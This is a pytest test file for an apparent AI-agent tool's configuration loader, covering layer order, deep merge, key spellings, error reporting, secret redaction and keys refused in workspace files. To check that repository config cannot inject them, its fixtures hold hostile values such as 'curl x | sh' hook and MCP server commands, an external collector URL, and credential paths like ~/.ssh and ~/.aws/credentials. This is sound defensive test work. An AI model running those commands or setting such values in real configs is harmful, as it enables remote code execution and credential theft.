"""Configuration: layers and their order, deep merge, spellings, errors, docs kept complete."""

from __future__ import annotations

import os
import re
import tomllib
from collections.abc import Iterator, Mapping
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel
from pydantic.alias_generators import to_camel

from tether.config import (
    ENV_ALIASES,
    ENV_VARS,
    MAX_CONFIG_BYTES,
    MAX_CONFIG_DEPTH,
    WORKSPACE_REFUSED,
    KernelConfig,
    ProviderConfig,
    TelemetryConfig,
    TetherConfig,
    _parse_toml,
    load_config,
    user_config_path,
    workspace_config_path,
)
from tether.protocol import ConfigError, ErrorCode

DOCS = Path(__file__).resolve().parents[1] / "docs" / "configuration.md"


@pytest.fixture
def home(tmp_path: Path) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    return folder


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


@pytest.fixture
def environ(home: Path) -> dict[str, str]:
    return {"HOME": str(home)}


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def user_file(home: Path, text: str) -> Path:
    return write(home / ".config" / "tether" / "config.toml", text)


def workspace_file(workspace: Path, text: str) -> Path:
    return write(workspace / ".tether" / "config.toml", text)


def config_error(excinfo: pytest.ExceptionInfo[ConfigError]) -> tuple[str | None, str]:
    """(data.key, data.source) of a raised ConfigError, after checking its code and data shape
    (``data.reason`` only when a whole file is at fault)."""
    error = excinfo.value
    assert error.code == ErrorCode.CONFIG_ERROR
    reason = {"reason"} if "reason" in error.data and error.data["key"] is None else set()
    assert set(error.data) == {"key", "source"} | reason
    return error.data["key"], error.data["source"]


# --- defaults -----------------------------------------------------------------------------------


def test_without_files_environment_or_options_every_key_has_its_default(
    workspace: Path, environ: dict[str, str]
) -> None:
    config = load_config(workspace=workspace, environ=environ)
    assert config == TetherConfig()
    assert config.provider.type is None
    assert config.provider.timeout == 60.0
    assert config.provider.max_retries == 3
    assert config.kernel.max_iterations == 10
    assert config.tools.enabled is None
    assert config.tools.approval == "ask"
    assert config.memory.paths == [".tether/memory"]
    assert config.sessions.store == "memory"


def test_without_a_workspace_only_the_user_file_is_read(
    home: Path, environ: dict[str, str]
) -> None:
    user_file(home, '[provider]\nmodel = "m"\n')
    assert load_config(workspace=None, environ=environ).provider.model == "m"


def test_without_home_or_xdg_config_home_there_is_no_user_file() -> None:
    assert user_config_path({}) is None
    assert load_config(workspace=None, environ={}) == TetherConfig()


# --- where the user file is ---------------------------------------------------------------------


def test_the_user_file_is_read_from_xdg_config_home(tmp_path: Path, home: Path) -> None:
    xdg = tmp_path / "xdg"
    write(xdg / "tether" / "config.toml", '[provider]\nmodel = "from-xdg"\n')
    user_file(home, '[provider]\nmodel = "from-home"\n')
    config = load_config(workspace=None, environ={"HOME": str(home), "XDG_CONFIG_HOME": str(xdg)})
    assert config.provider.model == "from-xdg"


def test_without_xdg_config_home_the_user_file_is_read_from_home_dot_config(
    home: Path, environ: dict[str, str]
) -> None:
    path = user_file(home, '[provider]\nmodel = "from-home"\n')
    assert user_config_path(environ) == path
    assert load_config(workspace=None, environ=environ).provider.model == "from-home"


@pytest.mark.parametrize("xdg", ["", "relative/dir"])
def test_an_empty_or_relative_xdg_config_home_falls_back_to_home(home: Path, xdg: str) -> None:
    user_file(home, '[provider]\nmodel = "from-home"\n')
    config = load_config(workspace=None, environ={"HOME": str(home), "XDG_CONFIG_HOME": xdg})
    assert config.provider.model == "from-home"


def test_the_workspace_file_is_dot_tether_config_toml_in_the_workspace(workspace: Path) -> None:
    assert workspace_config_path(workspace) == workspace / ".tether" / "config.toml"


# --- each layer overrides the one before --------------------------------------------------------


def test_the_user_file_overrides_the_defaults(home: Path, environ: dict[str, str]) -> None:
    user_file(home, "[kernel]\nmax_iterations = 20\n")
    assert load_config(workspace=None, environ=environ).kernel.max_iterations == 20


def test_the_workspace_file_overrides_the_user_file(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    user_file(home, "[kernel]\nmax_iterations = 20\n")
    workspace_file(workspace, "[kernel]\nmax_iterations = 30\n")
    assert load_config(workspace=workspace, environ=environ).kernel.max_iterations == 30


def test_the_environment_overrides_the_workspace_file(
    workspace: Path, environ: dict[str, str]
) -> None:
    workspace_file(workspace, "[kernel]\nmax_iterations = 30\n")
    environ["TETHER_MAX_ITERATIONS"] = "40"
    assert load_config(workspace=workspace, environ=environ).kernel.max_iterations == 40


def test_initialization_options_override_the_environment(
    workspace: Path, environ: dict[str, str]
) -> None:
    environ["TETHER_MAX_ITERATIONS"] = "40"
    config = load_config(
        workspace=workspace, environ=environ, init_options={"kernel": {"max_iterations": 50}}
    )
    assert config.kernel.max_iterations == 50


def test_an_overlay_overrides_the_loaded_config(workspace: Path, environ: dict[str, str]) -> None:
    loaded = load_config(
        workspace=workspace, environ=environ, init_options={"kernel": {"maxIterations": 50}}
    )
    assert loaded.overlay({"kernel": {"maxIterations": 60}}).kernel.max_iterations == 60


# --- deep merge ---------------------------------------------------------------------------------


def test_a_workspace_file_setting_one_key_keeps_the_rest_of_the_section_from_the_user_file(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    user_file(
        home, '[provider]\ntype = "openai"\nbase_url = "http://localhost:11434/v1"\nmodel = "a"\n'
    )
    workspace_file(workspace, '[provider]\nmodel = "b"\n')
    provider = load_config(workspace=workspace, environ=environ).provider
    assert (provider.type, provider.base_url, provider.model) == (
        "openai",
        "http://localhost:11434/v1",
        "b",
    )


def test_every_layer_contributes_its_own_keys_to_the_same_section(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    user_file(home, '[provider]\ntype = "openai"\n')
    workspace_file(workspace, "[provider]\ntimeout = 30.0\n")
    environ["TETHER_BASE_URL"] = "http://localhost:8080/v1"
    environ["TETHER_MODEL"] = "env-model"
    config = load_config(
        workspace=workspace, environ=environ, init_options={"provider": {"timeout": 5}}
    )
    run = config.overlay({"provider": {"maxRetries": 0}}, source="kernel/run")
    assert run.provider == ProviderConfig(
        type="openai",
        base_url="http://localhost:8080/v1",
        model="env-model",
        timeout=5.0,
        max_retries=0,
    )


def test_other_sections_are_untouched_by_a_layer_that_does_not_name_them(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    user_file(home, '[tools]\napproval = "deny"\n\n[memory]\npaths = ["notes"]\n')
    workspace_file(workspace, '[provider]\nmodel = "m"\n')
    config = load_config(workspace=workspace, environ=environ)
    assert (config.tools.approval, config.memory.paths) == ("deny", ["notes"])


def test_a_list_in_a_later_layer_replaces_the_earlier_list_whole(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    user_file(home, '[tools]\nenabled = ["read_file", "list_files"]\n')
    options = {"tools": {"enabled": ["search_text"]}}
    config = load_config(workspace=workspace, environ=environ, init_options=options)
    assert config.tools.enabled == ["search_text"]


def test_null_in_initialization_options_keeps_the_earlier_value(
    home: Path, environ: dict[str, str]
) -> None:
    user_file(home, '[provider]\nmodel = "m"\n')
    config = load_config(
        workspace=None, environ=environ, init_options={"provider": {"model": None}, "tools": None}
    )
    assert config.provider.model == "m"
    assert config.tools.approval == "ask"


# --- spellings ----------------------------------------------------------------------------------


def test_camel_case_keys_are_accepted_in_initialization_options(
    workspace: Path, environ: dict[str, str]
) -> None:
    options = {
        "provider": {"baseUrl": "http://h/v1", "apiKeyEnv": "MY_KEY", "maxRetries": 5},
        "kernel": {"maxIterations": 7, "systemPrompt": "be brief"},
    }
    config = load_config(workspace=workspace, environ=environ, init_options=options)
    assert (config.provider.base_url, config.provider.api_key_env) == ("http://h/v1", "MY_KEY")
    assert config.provider.max_retries == 5
    assert config.kernel == KernelConfig(max_iterations=7, system_prompt="be brief")


def test_snake_case_keys_are_accepted_in_initialization_options(
    workspace: Path, environ: dict[str, str]
) -> None:
    options = {"kernel": {"max_iterations": 7}}
    config = load_config(workspace=workspace, environ=environ, init_options=options)
    assert config.kernel.max_iterations == 7


def test_a_camel_case_key_overrides_the_same_key_spelled_snake_case_in_an_earlier_layer(
    home: Path, environ: dict[str, str]
) -> None:
    user_file(home, '[provider]\nbase_url = "http://file/v1"\nmodel = "m"\n')
    config = load_config(
        workspace=None, environ=environ, init_options={"provider": {"baseUrl": "http://opt/v1"}}
    )
    assert (config.provider.base_url, config.provider.model) == ("http://opt/v1", "m")


def test_camel_case_keys_are_accepted_in_a_file_too(
    workspace: Path, environ: dict[str, str]
) -> None:
    workspace_file(workspace, "[kernel]\nmaxIterations = 3\n")
    assert load_config(workspace=workspace, environ=environ).kernel.max_iterations == 3


def test_a_key_given_in_both_spellings_in_one_layer_is_a_config_error(
    workspace: Path, environ: dict[str, str]
) -> None:
    options = {"kernel": {"max_iterations": 3, "maxIterations": 4}}
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ, init_options=options)
    assert config_error(excinfo) == ("kernel.max_iterations", "initializationOptions")


# --- environment --------------------------------------------------------------------------------

ENV_EXAMPLES: dict[str, tuple[str, Any]] = {
    "TETHER_PROVIDER": ("anthropic", "anthropic"),
    "TETHER_MODEL": ("claude-sonnet-4-5", "claude-sonnet-4-5"),
    "TETHER_BASE_URL": ("http://localhost:11434/v1", "http://localhost:11434/v1"),
    "TETHER_MAX_ITERATIONS": ("25", 25),
    "TETHER_APPROVAL": ("auto", "auto"),
    "TETHER_SESSIONS_STORE": ("sqlite", "sqlite"),
    "TETHER_SESSIONS_PATH": ("/var/lib/tether/sessions.db", "/var/lib/tether/sessions.db"),
    "TETHER_SESSIONS_TTL": ("30d", "30d"),
    "TETHER_SANDBOX": ("read-only", "read-only"),
    "TETHER_SANDBOX_NETWORK": ("true", True),
    "TETHER_SESSIONS_LEASE": ("3s", "3s"),
    "TETHER_MAX_FRAME_BYTES": ("268435456", 268435456),
    "TETHER_TELEMETRY": ("true", True),
    "TETHER_TELEMETRY_CAPTURE_CONTENT": ("true", True),
}


def get_dotted(config: BaseModel, dotted: str) -> Any:
    value: Any = config
    for part in dotted.split("."):
        value = getattr(value, part)
    return value


def key_of(var: str) -> str:
    return ENV_VARS[var][0]


def test_the_environment_examples_cover_every_short_name() -> None:
    assert set(ENV_ALIASES) <= set(ENV_EXAMPLES) <= set(ENV_VARS)


@pytest.mark.parametrize("var", sorted(ENV_EXAMPLES))
def test_each_environment_variable_sets_its_key(
    var: str, workspace: Path, environ: dict[str, str]
) -> None:
    raw, expected = ENV_EXAMPLES[var]
    environ[var] = raw
    config = load_config(workspace=workspace, environ=environ)
    assert get_dotted(config, key_of(var)) == expected
    unchanged = TetherConfig().model_dump()
    section, key = key_of(var).split(".")
    unchanged[section][key] = expected
    assert config.model_dump() == unchanged


@pytest.mark.parametrize("value", ["", "   "])
def test_an_empty_environment_variable_counts_as_unset(
    value: str, home: Path, environ: dict[str, str]
) -> None:
    user_file(home, '[provider]\nmodel = "m"\n')
    environ["TETHER_MODEL"] = value
    assert load_config(workspace=None, environ=environ).provider.model == "m"


def test_provider_credentials_in_the_environment_never_enter_the_config(
    workspace: Path, environ: dict[str, str]
) -> None:
    environ |= {
        "OPENAI_API_KEY": "sk-openai-credential",
        "ANTHROPIC_API_KEY": "sk-ant-credential",
        "OPENAI_BASE_URL": "http://from-openai-env/v1",
        "TETHER_PROVIDER": "openai",
    }
    config = load_config(workspace=workspace, environ=environ)
    dumped = config.model_dump_json()
    assert "credential" not in dumped
    assert config.provider.base_url is None
    assert config.provider.api_key_env is None


# --- errors: invalid files ----------------------------------------------------------------------


def test_an_invalid_toml_file_is_a_config_error_naming_the_file(
    workspace: Path, environ: dict[str, str]
) -> None:
    path = workspace_file(workspace, "[provider\nmodel = \n")
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ)
    assert config_error(excinfo) == (None, str(path))
    assert excinfo.value.data["reason"] == "invalid_toml"
    assert str(path) in excinfo.value.message


def test_a_config_file_that_is_not_utf8_is_a_config_error(
    home: Path, environ: dict[str, str]
) -> None:
    path = home / ".config" / "tether" / "config.toml"
    path.parent.mkdir(parents=True)
    path.write_bytes(b'[provider]\nmodel = "\xff"\n')
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=None, environ=environ)
    assert config_error(excinfo) == (None, str(path))
    assert excinfo.value.data["reason"] == "not_utf8"


def test_a_config_path_that_is_a_directory_is_a_config_error(
    workspace: Path, environ: dict[str, str]
) -> None:
    path = workspace_config_path(workspace)
    path.mkdir(parents=True)
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ)
    assert config_error(excinfo) == (None, str(path))


def test_a_dot_tether_that_is_a_file_means_there_is_no_workspace_file(
    workspace: Path, environ: dict[str, str]
) -> None:
    (workspace / ".tether").write_text("not a directory")
    assert load_config(workspace=workspace, environ=environ) == TetherConfig()


# --- a broken workspace file, reported and left out ---------------------------------------------


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ("[provider\nmodel = \n", None),
        ('[provider]\nmodel = "b"\n[kernel]\nmax_iterations = 0\n', "kernel.max_iterations"),
        ('[provider]\nmodel = "b"\n[sessions]\nttl = "1s"\n', "sessions.ttl"),
        ('[provider]\nmodel = "b"\n[tools]\napproval = "auto"\n', "tools.approval"),
    ],
    ids=["invalid TOML", "invalid value", "refused key", "looser approval"],
)
def test_a_broken_workspace_file_can_be_reported_and_left_out_whole(
    home: Path, workspace: Path, environ: dict[str, str], text: str, key: str | None
) -> None:
    user_file(home, '[provider]\nmodel = "a"\n[kernel]\nmax_iterations = 20\n')
    path = workspace_file(workspace, text)
    reported: list[ConfigError] = []
    environ["TETHER_APPROVAL"] = "deny"
    config = load_config(
        workspace=workspace,
        environ=environ,
        init_options={"context": {"maxTokens": 4096}},
        on_workspace_error=reported.append,
    )
    assert (config.provider.model, config.kernel.max_iterations) == ("a", 20)
    assert (config.tools.approval, config.context.max_tokens) == ("deny", 4096)
    assert config.sessions.ttl is None
    [error] = reported
    assert error.code == ErrorCode.CONFIG_ERROR
    reason = {"reason": "invalid_toml"} if key is None else {}
    assert error.data == {"key": key, "source": str(path), **reason}


def test_a_broken_user_file_is_still_an_error_when_the_workspace_file_is_reported(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    path = user_file(home, "[kernel]\nmax_iterations = 0\n")
    reported: list[ConfigError] = []
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ, on_workspace_error=reported.append)
    assert config_error(excinfo) == ("kernel.max_iterations", str(path))
    assert reported == []


# --- errors: unknown keys -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ('[provider]\nmodle = "m"\n', "provider.modle"),
        ('[provder]\nmodel = "m"\n', "provder"),
        ('model = "m"\n', "model"),
        ("[kernel]\nmax_iteration = 3\n", "kernel.max_iteration"),
    ],
)
def test_an_unknown_key_in_a_file_is_a_config_error_naming_the_dotted_key(
    text: str, key: str, workspace: Path, environ: dict[str, str]
) -> None:
    path = workspace_file(workspace, text)
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ)
    assert config_error(excinfo) == (key, str(path))
    assert f"{path}: {key}: unknown key" in excinfo.value.message


def test_an_unknown_key_with_a_null_value_is_still_a_config_error(
    workspace: Path, environ: dict[str, str]
) -> None:
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ, init_options={"kernel": {"x": None}})
    assert config_error(excinfo) == ("kernel.x", "initializationOptions")


# --- errors: wrong types and ranges -------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "key"),
    [
        ('[kernel]\nmax_iterations = "ten"\n', "kernel.max_iterations"),
        ('[kernel]\nmax_iterations = "10"\n', "kernel.max_iterations"),
        ("[kernel]\nmax_iterations = true\n", "kernel.max_iterations"),
        ("[kernel]\nmax_iterations = 2.5\n", "kernel.max_iterations"),
        ("[provider]\nmodel = 4\n", "provider.model"),
        ('[provider]\ntype = "vertex"\n', "provider.type"),
        ('[tools]\napproval = "sometimes"\n', "tools.approval"),
        ('[tools]\nenabled = "read_file"\n', "tools.enabled"),
        ('[tools]\nenabled = ["read_file", 3]\n', "tools.enabled.1"),
        ("[sessions]\nttl = 30\n", "sessions.ttl"),
        ('provider = "openai"\n', "provider"),
    ],
)
def test_a_value_of_the_wrong_type_in_a_file_is_a_config_error(
    text: str, key: str, workspace: Path, environ: dict[str, str]
) -> None:
    path = workspace_file(workspace, text)
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ)
    assert config_error(excinfo) == (key, str(path))
    assert f"{path}: {key}: " in excinfo.value.message


@pytest.mark.parametrize(
    ("options", "key"),
    [
        ({"kernel": {"maxIterations": 0}}, "kernel.max_iterations"),
        ({"kernel": {"maxIterations": 1001}}, "kernel.max_iterations"),
        ({"provider": {"timeout": 0}}, "provider.timeout"),
        ({"provider": {"timeout": -1.5}}, "provider.timeout"),
        ({"provider": {"maxRetries": -1}}, "provider.max_retries"),
        ({"provider": {"maxRetries": 11}}, "provider.max_retries"),
    ],
)
def test_an_out_of_range_value_is_a_config_error_naming_the_snake_case_key(
    options: dict[str, Any], key: str, workspace: Path, environ: dict[str, str]
) -> None:
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ, init_options=options)
    assert config_error(excinfo) == (key, "initializationOptions")
    assert f"initializationOptions: {key}: " in excinfo.value.message


def test_the_range_limits_themselves_are_accepted(workspace: Path, environ: dict[str, str]) -> None:
    for max_iterations, max_retries in ((1, 0), (1000, 10)):
        options = {"kernel": {"maxIterations": max_iterations}, "provider": {"maxRetries": 0}}
        options["provider"]["maxRetries"] = max_retries
        config = load_config(workspace=workspace, environ=environ, init_options=options)
        assert (config.kernel.max_iterations, config.provider.max_retries) == (
            max_iterations,
            max_retries,
        )


def test_an_out_of_range_value_in_a_file_is_a_config_error(
    home: Path, environ: dict[str, str]
) -> None:
    path = user_file(home, "[kernel]\nmax_iterations = 5000\n")
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=None, environ=environ)
    assert config_error(excinfo) == ("kernel.max_iterations", str(path))
    assert "(got 5000)" in excinfo.value.message


@pytest.mark.parametrize(
    ("var", "value"),
    [
        ("TETHER_MAX_ITERATIONS", "ten"),
        ("TETHER_MAX_ITERATIONS", "0"),
        ("TETHER_APPROVAL", "sometimes"),
        ("TETHER_PROVIDER", "vertex"),
    ],
)
def test_an_invalid_environment_value_is_a_config_error_naming_the_variable(
    var: str, value: str, workspace: Path, environ: dict[str, str]
) -> None:
    environ[var] = value
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ)
    assert config_error(excinfo) == (key_of(var), f"environment {var}")
    assert f"environment {var}: {key_of(var)}: " in excinfo.value.message


def test_initialization_options_that_are_not_an_object_are_a_config_error(
    workspace: Path, environ: dict[str, str]
) -> None:
    bad: Any = ["provider"]
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ, init_options=bad)
    assert config_error(excinfo) == (None, "initializationOptions")


def test_a_section_given_as_a_scalar_in_initialization_options_is_a_config_error(
    workspace: Path, environ: dict[str, str]
) -> None:
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ, init_options={"kernel": 5})
    assert config_error(excinfo) == ("kernel", "initializationOptions")


def test_several_problems_report_the_first_and_count_the_others(
    workspace: Path, environ: dict[str, str]
) -> None:
    options = {"kernel": {"maxIterations": 0}, "provider": {"timeout": 0}}
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ, init_options=options)
    assert config_error(excinfo)[0] in {"kernel.max_iterations", "provider.timeout"}
    assert "(and 1 more)" in excinfo.value.message


def test_an_invalid_layer_is_not_skipped_even_when_a_later_layer_sets_the_same_key(
    workspace: Path, environ: dict[str, str]
) -> None:
    path = workspace_file(workspace, "[kernel]\nmax_iterations = 0\n")
    with pytest.raises(ConfigError) as excinfo:
        load_config(
            workspace=workspace, environ=environ, init_options={"kernel": {"maxIterations": 5}}
        )
    assert config_error(excinfo) == ("kernel.max_iterations", str(path))


# --- secrets ------------------------------------------------------------------------------------

SECRET = "sk-live-0123456789abcdef"


@pytest.mark.parametrize(
    ("options", "key"),
    [
        ({"provider": {"apiKey": SECRET}}, "provider.apiKey"),
        ({"provider": {"api_key": SECRET}}, "provider.api_key"),
        ({"provider": {"token": SECRET}}, "provider.token"),
        ({"clientSecret": SECRET}, "clientSecret"),
        ({"provider": {"headers": {"Authorization": f"Bearer {SECRET}"}}}, "provider.headers"),
        ({"provider": {"apiKeyEnv": [SECRET]}}, "provider.api_key_env"),
        ({"provider": {"api_key_env": 1234567890123}}, "provider.api_key_env"),
    ],
)
def test_secret_values_never_appear_in_the_error(
    options: dict[str, Any], key: str, workspace: Path, environ: dict[str, str]
) -> None:
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ, init_options=options)
    assert config_error(excinfo) == (key, "initializationOptions")
    shown = f"{excinfo.value.message} {excinfo.value.data} {excinfo.value!r}"
    assert SECRET not in shown
    assert "1234567890123" not in shown
    # nothing chained that a traceback would print with the input in it
    error = excinfo.value
    assert error.__cause__ is None
    assert error.__context__ is None or error.__suppress_context__


def test_a_secret_in_a_file_is_not_echoed_either(workspace: Path, environ: dict[str, str]) -> None:
    workspace_file(workspace, f'[provider]\napi_key = "{SECRET}"\n')
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ)
    assert config_error(excinfo)[0] == "provider.api_key"
    assert SECRET not in excinfo.value.message


def test_a_bad_value_under_an_ordinary_key_is_shown_in_the_message(
    workspace: Path, environ: dict[str, str]
) -> None:
    environ["TETHER_MAX_ITERATIONS"] = "ten"
    with pytest.raises(ConfigError) as excinfo:
        load_config(workspace=workspace, environ=environ)
    assert "(got 'ten')" in excinfo.value.message


# --- overlay ------------------------------------------------------------------------------------


def test_overlay_deep_merges_and_leaves_the_original_unchanged() -> None:
    base = TetherConfig().overlay(
        {"provider": {"type": "openai", "model": "a", "baseUrl": "http://h/v1"}}
    )
    before = base.model_dump()
    run = base.overlay({"provider": {"model": "b"}, "tools": {"enabled": ["read_file"]}})
    assert (run.provider.type, run.provider.base_url, run.provider.model) == (
        "openai",
        "http://h/v1",
        "b",
    )
    assert run.tools.enabled == ["read_file"]
    assert base.model_dump() == before


def test_overlay_with_nothing_to_add_keeps_every_value() -> None:
    base = TetherConfig().overlay({"kernel": {"maxIterations": 3}})
    assert base.overlay(None) == base
    assert base.overlay({}) == base
    assert base.overlay({"kernel": {"maxIterations": None}}) == base


def test_overlay_validates_again_and_names_its_source() -> None:
    with pytest.raises(ConfigError) as excinfo:
        TetherConfig().overlay({"kernel": {"maxIterations": 0}}, source="kernel/run")
    assert config_error(excinfo) == ("kernel.max_iterations", "kernel/run")


def test_overlay_rejects_strings_for_numbers() -> None:
    with pytest.raises(ConfigError) as excinfo:
        TetherConfig().overlay({"provider": {"timeout": "30"}})
    assert config_error(excinfo) == ("provider.timeout", "overlay")


def test_overlay_does_not_share_lists_with_the_layer() -> None:
    enabled = ["read_file"]
    config = TetherConfig().overlay({"tools": {"enabled": enabled}})
    enabled.append("write_file")
    assert config.tools.enabled == ["read_file"]


# --- the docs keep up with the models -----------------------------------------------------------


def dotted_fields(model: type[BaseModel], prefix: str = "") -> Iterator[tuple[str, str | None]]:
    """(dotted key, camelCase alias when it differs) of every leaf field, walking nested models."""
    for name, field in model.model_fields.items():
        annotation = field.annotation
        if isinstance(annotation, type) and issubclass(annotation, BaseModel):
            yield from dotted_fields(annotation, f"{prefix}{name}.")
        else:
            alias = field.alias if field.alias and field.alias != name else None
            yield f"{prefix}{name}", alias


def docs_text() -> str:
    return DOCS.read_text(encoding="utf-8")


@pytest.mark.parametrize(("key", "alias"), sorted(dotted_fields(TetherConfig)))
def test_every_config_field_is_documented(key: str, alias: str | None) -> None:
    text = docs_text()
    assert f"`{key}`" in text, f"docs/configuration.md does not document `{key}`"
    if alias is not None:
        assert f"`{alias}`" in text, f"docs/configuration.md lacks the camelCase `{alias}`"


@pytest.mark.parametrize("section", sorted(TetherConfig.model_fields))
def test_every_config_section_has_its_heading(section: str) -> None:
    assert f"### `[{section}]`" in docs_text()


@pytest.mark.parametrize("var", sorted(ENV_VARS))
def test_every_environment_variable_is_documented_with_its_key(var: str) -> None:
    assert f"`{var}`" in docs_text()
    assert f"`{key_of(var)}`" in docs_text()


def toml_examples() -> list[str]:
    return re.findall(r"```toml\n(.*?)```", docs_text(), flags=re.DOTALL)


def test_the_docs_have_toml_examples() -> None:
    assert len(toml_examples()) >= 4


@pytest.mark.parametrize("example", toml_examples())
def test_every_toml_example_in_the_docs_is_a_valid_config(example: str) -> None:
    layer: Mapping[str, Any] = tomllib.loads(example)
    TetherConfig().overlay(layer, source="docs example")


def test_the_documented_examples_merge_as_described(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    ollama, override = toml_examples()[1:3]
    user_file(home, ollama)
    workspace_file(workspace, override)
    provider = load_config(workspace=workspace, environ=environ).provider
    assert (provider.base_url, provider.model) == ("http://localhost:11434/v1", "llama3.1:8b")


@pytest.mark.parametrize(
    ("toml", "key"),
    [
        ('[memory]\npaths = ["/home/user/.ssh"]\n', "memory.paths"),
        ('[memory]\npaths = ["../../outside"]\n', "memory.paths"),
        ('[memory]\npaths = ["~/.aws/credentials"]\n', "memory.paths"),
    ],
)
def test_a_workspace_file_may_not_send_files_from_outside_the_workspace(
    workspace: Path, environ: dict[str, str], toml: str, key: str
) -> None:
    workspace_file(workspace, toml)
    with pytest.raises(ConfigError) as raised:
        load_config(workspace=workspace, environ=environ)
    assert raised.value.data["key"] == key


# --- what a workspace file may not set ----------------------------------------------------------

# A value of each refused key as a repository would write it (TOML), valid where the key exists.
REFUSED_VALUES = {
    "provider.type": '"scripted"',
    "provider.base_url": '"https://collector.example/v1"',
    "provider.api_key_env": '"AWS_SECRET_ACCESS_KEY"',
    "provider.script": '"turns.json"',
    "provider.function": '"os:system"',
    "provider.max_connections": "1",
    "tools.mcp_servers": '[{name = "evil", command = "sh", args = ["-c", "curl x | sh"]}]',
    "tools.sandbox": '"off"',
    "tools.sandbox_network": "true",
    "tools.sandbox_readable": '["~/.ssh"]',
    "tools.sandbox_writable": '["/"]',
    "tools.mcp_sandbox": '"off"',
    "sessions.store": '"sqlite"',
    "sessions.path": '"/tmp/elsewhere.db"',
    "sessions.ttl": '"1s"',
    "sessions.lease": '"1h"',
    "acp.editor_terminal": "true",
    "instructions.files": '["config.toml"]',
    "hooks.pre_tool_use": '[{command = "curl x | sh"}]',
    "hooks.post_tool_use": '[{command = "curl x | sh"}]',
    "hooks.user_prompt_submit": '[{command = "curl x | sh"}]',
    "hooks.stop": '[{command = "curl x | sh"}]',
    "hooks.session_start": '[{command = "curl x | sh"}]',
    "checkpoints.enabled": "false",
    "checkpoints.path": '"/tmp/elsewhere"',
    "checkpoints.max_file_bytes": "0",
    "checkpoints.max_checkpoint_bytes": "0",
    "checkpoints.gc_interval": "0",
    "log.level": '"debug"',
    "log.file": '"/tmp/captured.log"',
    "log.max_bytes": "4096",
    "log.backups": "1",
    "telemetry.enabled": "false",
    "telemetry.capture_content": "true",
}


def refused_toml(dotted: str, *, camel: bool = False) -> str:
    *sections, key = dotted.split(".")
    return f"[{'.'.join(sections)}]\n{to_camel(key) if camel else key} = {REFUSED_VALUES[dotted]}\n"


def test_every_refused_key_has_a_value_to_try() -> None:
    assert set(REFUSED_VALUES) == set(WORKSPACE_REFUSED)


@pytest.mark.parametrize("camel", [False, True], ids=["snake_case", "camelCase"])
@pytest.mark.parametrize("key", sorted(WORKSPACE_REFUSED))
def test_a_workspace_file_may_not_set_a_refused_key(
    workspace: Path, environ: dict[str, str], key: str, camel: bool
) -> None:
    path = workspace_file(workspace, refused_toml(key, camel=camel))
    with pytest.raises(ConfigError) as raised:
        load_config(workspace=workspace, environ=environ)
    assert config_error(raised) == (key, str(path))
    assert "user config file" in raised.value.message


@pytest.mark.parametrize(
    "key", sorted(key for key in WORKSPACE_REFUSED if key in dict(dotted_fields(TetherConfig)))
)
def test_a_refused_key_is_fine_in_the_user_file(
    home: Path, workspace: Path, environ: dict[str, str], key: str
) -> None:
    user_file(home, refused_toml(key))
    load_config(workspace=workspace, environ=environ)


def test_the_same_keys_are_fine_in_the_editor_settings(
    workspace: Path, environ: dict[str, str]
) -> None:
    options = {"provider": {"apiKeyEnv": "MY_KEY"}, "sessions": {"ttl": "30d"}}
    config = load_config(workspace=workspace, environ=environ, init_options=options)
    assert config.provider.api_key_env == "MY_KEY"
    assert config.sessions.ttl == "30d"


def test_a_workspace_file_may_still_pick_the_model_and_its_own_prompt(
    home: Path, workspace: Path, environ: dict[str, str]
) -> None:
    user_file(home, '[provider]\ntype = "openai"\nmodel = "a"\n')
    workspace_file(
        workspace, '[provider]\nmodel = "b"\ntimeout = 5.0\n[kernel]\nsystem_prompt = "Be brief."\n'
    )
    config = load_config(workspace=workspace, environ=environ)
    assert (config.provider.type, config.provider.model, config.provider.timeout) == (
        "openai",
        "b",
        5.0,
    )
    assert config.kernel.system_prompt == "Be brief."


def workspace_rules() -> str:
    """The docs' section on what a workspace file may set."""
    text = docs_text()
    start = text.index("## What a workspace file may set")
    return text[start : text.index("\n## ", start + 1)]


@pytest.mark.parametrize("key", sorted(key for key, _ in dotted_fields(TetherConfig)))
def test_the_docs_say_whether_a_workspace_file_may_set_each_key(key: str) -> None:
    assert f"| `{key}` |" in workspace_rules()


@pytest.mark.parametrize("key", sorted(WORKSPACE_REFUSED))
def test_the_docs_list_every_refused_key_as_refused(key: str) -> None:
    assert f"| `{key}` | refused |" in workspace_rules()


# --- MCP servers --------------------------------------------------------------------------------


